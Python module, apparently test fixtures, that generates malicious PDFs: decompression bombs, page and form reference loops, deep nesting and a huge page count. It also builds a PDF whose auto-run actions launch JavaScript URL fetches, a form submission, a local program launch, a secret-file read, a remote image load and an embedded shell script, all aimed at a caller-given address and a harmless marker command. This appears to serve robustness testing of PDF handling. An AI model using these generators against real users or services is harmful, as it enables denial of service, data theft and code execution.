"""Files that were made to do harm: bombs, loops, and PDFs that want something run or fetched."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from pathlib import Path

MEGABYTE = 1_000_000


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects, the first of them the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def stream(content: bytes, dictionary: bytes = b"") -> bytes:
    """A stream object as it stands in the file."""
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(content), dictionary, content)


def page(content: bytes, *more: bytes, catalogue: bytes = b"", own: bytes = b"", resources: bytes = b"") -> bytes:
    """A PDF of one page; `content` is object 4, `more` follow it."""
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%b>>%b>>" % (resources, own),
        content,
        *more,
    ])  # fmt: skip


def zeros(megabytes: int, byte: bytes = b" ") -> bytes:
    """So many megabytes, deflated to a thousandth: blocks that end with a full flush may be repeated (RFC 1950)."""
    piece, packer, check = byte * MEGABYTE, zlib.compressobj(9), 1
    first, more = (packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    for _ in range(megabytes):
        check = zlib.adler32(piece, check)
    return first + more * (megabytes - 1) + b"\x03\x00" + check.to_bytes(4, "big")


def content_bomb() -> bytes:
    """A page whose content inflates to 400 MB."""
    return page(stream(zeros(400), b"/Filter/FlateDecode"))


def nested_bomb() -> bytes:
    """A page whose content is packed twice: some kilobytes that inflate to 400 MB."""
    return page(stream(zlib.compress(zeros(400), 9), b"/Filter[/FlateDecode/FlateDecode]"))


def font_bomb() -> bytes:
    """A page with a font program that inflates to 400 MB."""
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R>>"
    descriptor = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 7 0 R>>"
    words = stream(b"BT /F 12 Tf 72 700 Td (Ke hoach) Tj ET")
    return page(words, font, descriptor, stream(zeros(400), b"/Filter/FlateDecode"), resources=b"/Font<</F 5 0 R>>")


def image_bomb() -> bytes:
    """A page with an image that says that it is 60,000 pixels wide and high, in some kilobytes."""
    image = b"/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode"
    return page(stream(b"q 595 0 0 842 0 0 cm /I Do Q"), stream(zeros(20), image), resources=b"/XObject<</I 5 0 R>>")


def page_loop() -> bytes:
    """A tree of pages that holds itself."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])


def form_loop() -> bytes:
    """A form that draws itself."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F 5 0 R>>>>"
    return page(stream(b"/F Do"), stream(b"/F Do", form), resources=b"/XObject<</F 5 0 R>>")


def deep_nesting() -> bytes:
    """Arrays in arrays, a hundred thousand deep."""
    return page(stream(b"[" * 100_000 + b"]" * 100_000), catalogue=b"/Deep " + b"[" * 100_000 + b"]" * 100_000)


def many_pages() -> bytes:
    """A count of pages that nobody could hold."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 2000000000>>"])


HARMFUL: dict[str, Callable[[], bytes]] = {
    made.__name__: made
    for made in (
        *(content_bomb, nested_bomb, font_bomb, image_bomb),
        *(page_loop, form_loop, deep_nesting, many_pages),
    )
}


def wants_much(address: str, marker: Path, secret: Path) -> bytes:
    """A page of text that wants scripts run, programs launched, addresses fetched and files read."""
    fetch, launch = address.encode(), str(marker).encode()
    actions = (
        b"<</S/JavaScript/JS(app.launchURL\\('%b/js'\\); this.submitForm\\('%b/form'\\))>>" % (fetch, fetch),
        b"<</S/Launch/F<</Type/Filespec/F(/usr/bin/touch)>>/Unix<</F(/usr/bin/touch)/P(%b)>>>>" % launch,
        b"<</S/URI/URI(%b/uri)>>" % fetch,
    )
    read = b"/F(%b)/FFilter/FlateDecode" % str(secret).encode()
    far = b"/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(%b/img)>>" % fetch
    attached = stream(b"#!/bin/sh\ntouch %b\n" % launch, b"/Type/EmbeddedFile")
    return page(
        stream(b"BT /F 14 Tf 72 700 Td (KE HOACH xay dung nong thon moi nam 2024) Tj ET /I Do /J Do"),
        *actions,
        stream(b"", read),
        stream(b"", far),
        attached,
        b"<</Type/Filespec/F(run.sh)/EF<</F 10 0 R>>>>",
        catalogue=b"/OpenAction 5 0 R/AA<</WC 6 0 R>>/Names<</EmbeddedFiles<</Names[(run.sh)11 0 R]>>"
        b"/JavaScript<</Names[(a)5 0 R]>>>>",
        own=b"/AA<</O 6 0 R/C 7 0 R>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 7 0 R>>]",
        resources=b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>/XObject<</I 9 0 R/J 8 0 R>>",
    )
